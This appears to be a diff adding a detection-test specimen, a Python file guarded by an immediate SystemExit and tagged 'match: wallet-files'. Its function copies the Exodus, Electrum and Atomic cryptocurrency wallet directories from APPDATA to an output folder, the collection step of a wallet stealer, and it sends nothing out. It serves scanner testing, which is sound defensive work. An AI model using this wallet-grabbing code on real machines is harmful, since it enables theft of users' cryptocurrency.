@@ -1,0 +1,13 @@
+raise SystemExit("specimen: not to be run")
+import os
+import shutil
+
+WALLETS = {
+    "Exodus": os.path.join(os.environ["APPDATA"], "Exodus", "exodus.wallet"),  # match: wallet-files
+    "Electrum": os.path.join(os.environ["APPDATA"], "Electrum", "wallets"),
+    "Atomic": os.path.join(os.environ["APPDATA"], "atomic", "Local Storage", "leveldb"),
+}
+
+def grab(out):
+    for name, path in WALLETS.items():
+        shutil.copytree(path, out)
